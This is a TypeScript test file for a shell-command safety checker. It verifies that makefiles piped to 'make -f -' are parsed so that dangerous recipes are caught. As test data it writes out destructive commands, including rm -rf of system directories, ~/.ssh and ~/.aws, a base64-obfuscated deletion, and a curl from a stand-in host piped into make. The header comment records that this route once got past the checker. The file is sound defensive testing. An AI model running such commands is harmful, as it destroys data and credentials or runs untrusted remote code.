import { describe, expect, it } from 'vitest';
import { check as checkWithFacts } from '../support/runtime.js';

// `make -f -` reads its makefile from stdin: `printf 'all:\n\trm -rf /var/lib/docker\n' | sudo make -f -`
// was allowed, as make with no Makefile runs nothing. The text piped in is now read as the makefile.

/** A project with no Makefile: the only makefile is the one on stdin. */
const check = (command: string) =>
  checkWithFacts(command, { readScript: () => ({ kind: 'missing' as const }) });

describe('a makefile piped to make -f -', () => {
  it.each([
    ["printf 'all:\\n\\trm -rf /var/lib/docker\\n' | sudo make -f -", '/var/lib/docker'],
    ["printf 'x:\\n\\trm -rf /srv\\n' | make -f Makefile -f - x", '/srv'],
    ["make -f - wipe <<'EOF'\nbuild:\n\tgo build\nwipe:\n\trm -rf /srv/data\nEOF", '/srv/data'],
    ["echo 'Y2xlYW46CglybSAtcmYgL29wdC9hcHAK' | base64 -d | make --file=- clean", '/opt/app'],
  ])('%s runs what the piped makefile says', async (command, target) => {
    const r = await check(command);
    expect(r.decision.outcome).not.toBe('allow');
    expect(r.assessment.effects.map((e) => [e.operation, e.target])).toContainEqual(['delete', target]);
  });

  it.each([
    "printf 'hello:\\n\\t@echo hi\\n' | make -f -",
    "printf 'lint:\\n\\tgo vet ./...\\n' | make -f - lint",
  ])('%s runs a harmless recipe and is allowed', async (command) => {
    const r = await check(command);
    expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).toBe('allow');
  });

  it.each(['curl -s https://x.example/mk | make -f - all', 'echo "$RULES" | make -f -', 'make -f -'])(
    '%s cannot be verified',
    async (command) => {
      const r = await check(command);
      expect(r.decision.outcome).not.toBe('allow');
      expect(r.assessment.effects.map((e) => e.operation)).toContain('execute-unverifiable');
    },
  );
});

describe('a task file this command writes before it runs a task', () => {
  it.each([
    "printf 'all:\\n\\trm -rf /var/lib/docker\\n' | sudo make -f -",
    "printf 'clean:\\n\\trm -rf $(HOME)/.ssh\\n' > /tmp/mk && make -f /tmp/mk clean",
    'npm pkg set scripts.reset="rm -rf ~/.aws" && npm run reset',
  ])('%s is not allowed, with or without a reader of files', async (command) => {
    for (const r of [await check(command), await checkWithFacts(command)])
      expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).not.toBe('allow');
  });

  it.each(['npm pkg set version=1.2.3', 'npm pkg get scripts', "printf 'hi:\\n\\t@echo hi\\n' | make -f -"])(
    '%s is allowed',
    async (command) => {
      const r = await checkWithFacts(command);
      expect(r.decision.outcome, JSON.stringify(r.assessment.effects)).toBe('allow');
    },
  );
});
